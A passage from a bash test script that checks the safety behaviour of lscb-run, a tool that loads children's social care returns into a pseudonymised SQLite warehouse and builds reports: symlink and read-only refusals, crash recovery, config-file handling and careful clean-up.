LSCB_PSEUDONYM_KEY="${K64}BBBBBBBBBBBBBBBB" run "$T/w9k" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'not the one this warehouse was built with' "$T/err" &&
    pass "keys longer than 64 bytes are used whole (another tail is another key)" ||
    fail "long keys: exit $rc $(cat "$T/err")"
# a work directory too long for SQLite: refused first, nothing made
long=$T/$(printf 'd%.0s' $(seq 1 200))/$(printf 'e%.0s' $(seq 1 265))
run "$long" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 2 ] && grep -q 'SQLite opens paths of at most 511 bytes' "$T/err" && [ ! -e "$long" ] &&
    pass "a work directory path too long for SQLite: exit 2 before anything is made" ||
    fail "long work directory: exit $rc $(cat "$T/err")"
# a file name that is not UTF-8, and a malformed date of birth
mkdir -p "$T/latin1"
sed 's|<PersonBirthDate>2015-06-01</PersonBirthDate>|<PersonBirthDate>2015-02-30</PersonBirthDate>|' \
    "$IN/cin-2024.xml" >"$T/latin1/cin-$(printf 'caf\351')-2024.xml"
rm -rf "$T/w9u"
run "$T/w9u" "$T"/latin1/cin-* >/dev/null 2>"$T/err"
rc=$?
xmlok=$(python3 - "$T/w9u/report-2024.xlsx" <<'PY'
import sys, zipfile, xml.dom.minidom
z = zipfile.ZipFile(sys.argv[1])
for n in z.namelist():
    if n.endswith(".xml"):
        xml.dom.minidom.parseString(z.read(n))
print("ok")
PY
)
[ $rc -eq 0 ] && [ "$xmlok" = ok ] && pass "an input file name that is not UTF-8: every XML part of the workbook parses" ||
    fail "non-UTF-8 file name: exit $rc, xml '$xmlok' $(cat "$T/err")"
grep -q 'birth_date' "$T/w9u/rejects.csv" && ! grep -q '2015-02-30' "$T/w9u/rejects.csv" &&
    pass "rejects.csv names a bad date of birth's field, never its value" ||
    fail "date of birth in rejects.csv: $(grep birth "$T/w9u/rejects.csv")"
# the warehouse: a link as the work directory's own is refused; one named
# through a link is loaded in place (the link stays); a read-only one is refused
rm -rf "$T/w9w" "$T/elsewhere"
mkdir -p "$T/w9w" "$T/elsewhere"
run "$T/elsewhere" --year 2023 "$IN"/cin-2023.xml >/dev/null 2>&1
cp "$T/elsewhere/pseudonym.key" "$T/w9w/"
ln -s "$T/elsewhere/warehouse.sqlite" "$T/w9w/warehouse.sqlite"
wbefore=$(md5sum <"$T/elsewhere/warehouse.sqlite")
run "$T/w9w" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'is a symbolic link' "$T/err" && [ -L "$T/w9w/warehouse.sqlite" ] &&
    [ "$wbefore" = "$(md5sum <"$T/elsewhere/warehouse.sqlite")" ] &&
    pass "the work directory's warehouse a symbolic link: refused, the link and its target untouched" ||
    fail "warehouse link: exit $rc $(cat "$T/err")"
run "$T/w9w" --warehouse "$T/w9w/warehouse.sqlite" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
n=$(sqlite3 "$T/elsewhere/warehouse.sqlite" 'select count(*) from load_log')
[ $rc -eq 0 ] && [ -L "$T/w9w/warehouse.sqlite" ] && [ "$n" = 3 ] &&
    pass "a warehouse named through a link: its target loaded, the link kept" ||
    fail "named warehouse link: exit $rc, $n returns $(cat "$T/err")"
chmod 444 "$T/elsewhere/warehouse.sqlite"
wbefore=$(md5sum <"$T/elsewhere/warehouse.sqlite")
run "$T/elsewhere" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'read-only (mode 444)' "$T/err" && [ "$(stat -c %a "$T/elsewhere/warehouse.sqlite")" = 444 ] &&
    [ "$wbefore" = "$(md5sum <"$T/elsewhere/warehouse.sqlite")" ] &&
    pass "a read-only warehouse: refused, left as it was" || fail "read-only warehouse: exit $rc $(cat "$T/err")"
# the lock file is never followed
rm -rf "$T/w9l"
mkdir -p "$T/w9l"
ln -s "$T/lock-victim" "$T/w9l/.lscb-run.lock"
run "$T/w9l" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 3 ] && [ ! -e "$T/lock-victim" ] && pass "a lock file planted as a link: not followed (exit 3)" ||
    fail "lock link: exit $rc, victim $(ls "$T/lock-victim" 2>&1)"

# the work directory's lock file deleted under a running run: a second run
# in the same directory waits for the first (it used to remove the first
# run's private directory as a killed run's, and the first failed)
W=$T/w9d
rm -rf "$W"
run "$W" "$T"/big/cin* >"$T/out1" 2>&1 &
first=$!
i=0
while [ -z "$(find "$W" -maxdepth 1 -name '.run-*' 2>/dev/null)" ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i + 1)); done
rm -f "$W/.lscb-run.lock"
run "$W" "$T"/big/cin-2024.xml >"$T/out2" 2>&1
rc2=$?
wait $first
rc1=$?
n=$(sqlite3 "$W/warehouse.sqlite" 'pragma integrity_check; select count(*) from load_log' 2>&1 | tr '\n' ' ')
[ $rc1 -eq 0 ] && [ $rc2 -eq 0 ] && [ "$n" = "ok 3 " ] && [ -z "$(find "$W" -name '.run-*')" ] &&
    pass "the work directory's lock file deleted under a run: the second run waits for the first, both exit 0" ||
    fail "lock file deleted under a run: exits $rc1 and $rc2, warehouse '$n' $(cat "$T/out1" "$T/out2" | head -c 300)"

# Cron-ready: examples/lscb.ini holds a whole yearly run; `lscb-run
# --config FILE` alone runs it, the year the newest return's, one workbook
# per template, each identical to a run given the same on the command line.
C=$T/cron
mkdir -p "$C/returns"
cp "$IN"/* "$C/returns/"
sed -e "s|^inputs = .*|inputs = $C/returns|" -e "s|^workdir = .*|workdir = $C/work|" \
    -e "s|^published = .*|published = $ROOT/data/published|" "$ROOT/examples/lscb.ini" >"$C/lscb.ini"
"$B"/lscb-run --config "$C/lscb.ini" >"$C/out" 2>"$C/err"
rc=$?
"$B"/lscb-run --year 2024 --la 205 --config "$C/lscb.ini" --template lscb-2011 --workdir "$C/one" "$C"/returns/* >/dev/null 2>&1
if [ $rc -eq 0 ] && [ ! -s "$C/err" ] && grep -q '^lscb-run: 2024: .* wrote '"$C"'/work/report-2024.xlsx and tables/benchmarks.csv$' "$C/out" &&
    [ -f "$C/work/report-2024.xlsx" ] && cmp -s "$C/work/report-2024-lscb-2011.xlsx" "$C/one/report-2024.xlsx"; then
    pass "lscb-run --config examples/lscb.ini: the whole yearly run (year 2024 from the newest return, two templates), silent on stderr"
else
    fail "cron run: exit $rc $(cat "$C/out" "$C/err")"
fi
rm "$C/returns/cin-2024.xml"
"$B"/lscb-run --config "$C/lscb.ini" --workdir "$C/w2023" >"$C/out" 2>&1
grep -q '^lscb-run: 2023: ' "$C/out" && [ -f "$C/w2023/report-2023.xlsx" ] &&
    pass "the year defaults to the newest return's (2023 with the 2024 return gone)" || fail "default year: $(cat "$C/out")"
# relative paths in the file are relative to the file's directory, wherever
# cron starts the run
mkdir -p "$C/conf/pub"
cp "$ROOT/data/ons-population-0-17.csv" "$C/conf/pub/pop.csv"
printf '[authority]\nla = 205\n[run]\ninputs = ../returns\nworkdir = work-rel\npopulation = pub/pop.csv\ntemplates = dfe, ../conf/t/mine.ini\n' >"$C/conf/rel.ini"
mkdir -p "$C/conf/t"; cp "$ROOT/templates/dfe.ini" "$C/conf/t/mine.ini"
chmod 600 "$C/conf/rel.ini"
(cd / && "$B"/lscb-run --config "$C/conf/rel.ini") >"$C/out" 2>&1
rc=$?
[ $rc -eq 0 ] && [ -f "$C/conf/work-rel/report-2023.xlsx" ] && [ -f "$C/conf/work-rel/report-2023-mine.xlsx" ] && [ ! -e /work-rel ] &&
    pass "relative paths in --config (inputs, workdir, population, a template file) are the file's directory's, run from /" ||
    fail "relative config paths: exit $rc $(cat "$C/out")"
printf '[run]\ninputs = %s/nowhere\nworkdir = %s/w3\n' "$C" "$C" >"$C/bad.ini"
"$B"/lscb-run --config "$C/bad.ini" >/dev/null 2>"$C/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'nowhere: cannot read the inputs directory' "$C/err" && [ ! -e "$C/w3" ] &&
    pass "a configuration naming a missing inputs directory: exit 1, nothing made" || fail "bad inputs dir: exit $rc $(cat "$C/err")"
printf '[run]\nworkdir = %s/w4\ncolour = blue\n' "$C" >"$C/bad.ini"
"$B"/lscb-run --config "$C/bad.ini" >/dev/null 2>"$C/err"
rc=$?
[ $rc -eq 1 ] && grep -q "bad.ini:3: unknown key 'colour' in \[run\]" "$C/err" &&
    pass "an unknown key in [run]: file, line and key named" || fail "bad run key: exit $rc $(cat "$C/err")"

# 7. The commit is rolled forward whole from its marker: a first run killed
#    at the marker or just before the warehouse is renamed keeps its new
#    pseudonym key (else the next run is refused for ever: "not the key this
#    warehouse was built with"); the next run exits 0 and its outputs are a
#    clean run's.
run "$T/w7ref" "$IN"/* >/dev/null 2>&1
run "$T/w7ref" "$IN"/cin-2024.xml >/dev/null 2>&1
for at in commit-begin commit-warehouse; do
    W=$T/w7-$at
    LSCB_CRASH_AT=$at run "$W" "$IN"/* >/dev/null 2>&1
    k=$?
    run "$W" "$IN"/cin-2024.xml >"$T/out" 2>"$T/err"
    rc=$?
    if [ $k -eq 137 ] && [ $rc -eq 0 ] && [ -f "$W/pseudonym.key" ] && [ -z "$(find "$W" -name '.run-*')" ] &&
        cmp -s "$W/rejects.csv" "$T/w7ref/rejects.csv" && cmp -s "$W/validation.csv" "$T/w7ref/validation.csv" &&
        cmp -s "$W/tables/measures.csv" "$T/w7ref/tables/measures.csv" &&
        [ "$(sqlite3 "$W/warehouse.sqlite" 'select count(*) from load_log')" = "$(sqlite3 "$T/w7ref/warehouse.sqlite" 'select count(*) from load_log')" ]; then
        pass "first run killed at $at: key kept, next run exit 0, outputs those of a clean run"
    else
        fail "first run killed at $at (exit $k): next run exit $rc: $(head -c 300 "$T/err")"
    fi
done
# a directory where an output file goes: refused before the marker, every
# output (the warehouse too) unchanged, no run directory left; once it is
# moved away the next run succeeds
W=$T/w7b
good "$W"
rm -f "$W/validation.csv"
mkdir -p "$W/validation.csv"; touch "$W/validation.csv/x"
before=$(snapshot "$W")
run "$W" "$IN"/cin-2024.xml >"$T/out" 2>"$T/err"
rc=$?
after=$(snapshot "$W")
rm -rf "$W/validation.csv"
run "$W" "$IN"/cin-2024.xml >/dev/null 2>&1
rc2=$?
if [ $rc -eq 3 ] && [ "$before" = "$after" ] && grep -q 'validation.csv: is a directory' "$T/err" && [ $rc2 -eq 0 ] &&
    [ -f "$W/validation.csv" ] && [ -z "$(find "$W" -name '.run-*')" ]; then
    pass "a directory in an output's place: exit 3, nothing changed (warehouse too); the run after it is moved succeeds"
else
    fail "directory in the way: exit $rc then $rc2: $(head -c 300 "$T/err")"
    echo "$before" >"$T/b"; echo "$after" >"$T/a"; diff "$T/b" "$T/a" | head -5
fi
# a killed first run whose outputs then meet a directory in the way: the
# recovery keeps the run directory and its key (exit 3), and finishes it once
# the way is clear
W=$T/w7c
LSCB_CRASH_AT=commit-begin run "$W" "$IN"/* >/dev/null 2>&1
mkdir -p "$W/validation.csv"; touch "$W/validation.csv/x"
run "$W" "$IN"/cin-2024.xml >"$T/out" 2>"$T/err"
rc=$?
kept=$(find "$W" -path '*/.run-*/pseudonym.key' | wc -l)
rm -rf "$W/validation.csv"
run "$W" "$IN"/cin-2024.xml >/dev/null 2>&1
rc2=$?
if [ $rc -eq 3 ] && [ "$kept" -eq 1 ] && [ $rc2 -eq 0 ] && [ -f "$W/pseudonym.key" ] && [ -f "$W/validation.csv" ]; then
    pass "recovery blocked by a directory: run directory and key kept (exit 3), finished once the way is clear"
else
    fail "recovery blocked: exit $rc, key kept $kept, then exit $rc2: $(head -c 300 "$T/err")"
fi

# 8. tables/ is replaced whole: a folder an operator keeps in it (an archive
#    of last year's tables, several levels deep) stops the run with a message
#    naming it, and nothing is deleted or changed.
W=$T/w8
good "$W"
mkdir -p "$W/tables/archive-2023/a/b/c"
echo kept >"$W/tables/archive-2023/a/b/c/t1.csv"
before=$(snapshot "$W")
run "$W" "$IN"/cin-2024.xml >"$T/out" 2>"$T/err"
rc=$?
after=$(snapshot "$W")
if [ $rc -eq 1 ] && [ "$before" = "$after" ] && grep -q 'tables/archive-2023: a folder' "$T/err" &&
    [ -z "$(find "$W" -name '.run-*')" ]; then
    pass "a folder inside tables/: refused with its name (exit 1), nothing deleted or changed"
else
    fail "folder in tables/: exit $rc, kept: $(ls "$W/tables/archive-2023/a/b/c" 2>&1): $(head -c 300 "$T/err")"
fi

# 9. --config decides the work directory, so what a run removes: one
#    writable by group or others, a directory or a FIFO is refused with a
#    message naming it (no usage text, no hang), and nothing is changed.
W=$T/w9
good "$W"
before=$(snapshot "$W")
printf '[run]\n' >"$T/c9.ini"
chmod 666 "$T/c9.ini"
mkdir -p "$T/c9dir"
mkfifo "$T/c9fifo"
ok9=1
for c in "$T/c9.ini" "$T/c9dir" "$T/c9fifo"; do
    timeout 20 "$B"/lscb-run --config "$c" --year 2024 --la 205 --workdir "$W" "$IN"/cin-2024.xml >"$T/out" 2>"$T/err"
    rc=$?
    if [ $rc -ne 1 ] || ! grep -q "$c: the configuration" "$T/err" || grep -qi usage "$T/err"; then
        ok9=0; echo "  --config $c: exit $rc: $(head -c 200 "$T/err")"
    fi
done
after=$(snapshot "$W")
if [ $ok9 -eq 1 ] && [ "$before" = "$after" ]; then
    pass "--config writable by others, a directory or a FIFO: refused naming it (exit 1), nothing changed"
else
    fail "--config not refused as it should be"
fi

# 10. The clean-up removes only what the program made: files named exactly as
#     its temporary files (an analyst's 'budget.tmp.xlsx' stays), run
#     directories it made (0700, the user's: a '.run-notes1' of mode 755
#     stays), and in a kept staged/ or normalized/ only the stages' files
#     (an analyst's notes there stay, and so does the folder).
W=$T/w10
rm -rf "$W"
run "$W" --keep-intermediate "$IN"/* >/dev/null 2>&1
echo mine >"$W/budget.tmp.xlsx"
echo mine >"$W/rejects.csv.tmp-old"
echo mine >"$W/tables/summary.tmp.csv"
mkdir -m 755 "$W/.run-notes1"
echo mine >"$W/.run-notes1/n.txt"
echo mine >"$W/staged/my-notes.txt"
touch "$W/staged/child.csv.tmpAb12Cd" "$W/rejects.csv.tmpAb12Cd"
others=yes
if [ "$(id -u)" = 0 ]; then   # another user's files in a shared work directory
    mkdir -m 700 "$W/.run-Othr12"; echo theirs >"$W/.run-Othr12/x"; echo theirs >"$W/validation.csv.tmpOthr12"
    chown -R nobody "$W/.run-Othr12" "$W/validation.csv.tmpOthr12"
fi
run "$W" "$IN"/* >"$T/out" 2>"$T/err"
rc=$?
if [ "$(id -u)" = 0 ] && { [ ! -f "$W/.run-Othr12/x" ] || [ ! -f "$W/validation.csv.tmpOthr12" ]; }; then others=no; fi
if [ $rc -eq 0 ] && [ -f "$W/budget.tmp.xlsx" ] && [ -f "$W/rejects.csv.tmp-old" ] && [ -f "$W/tables/summary.tmp.csv" ] &&
    [ -f "$W/.run-notes1/n.txt" ] && [ "$(ls -A "$W/staged")" = my-notes.txt ] && [ ! -e "$W/normalized" ] &&
    [ ! -e "$W/rejects.csv.tmpAb12Cd" ] && [ $others = yes ]; then
    pass "clean-up: only the program's own temporary files, run directories and intermediate files removed"
else
    fail "clean-up removed what it did not make (exit $rc, others' kept: $others): $(ls -A "$W" "$W/staged" 2>&1 | tr '\n' ' ')"
fi

echo "safety: $fails failure(s)"
[ $fails -eq 0 ]
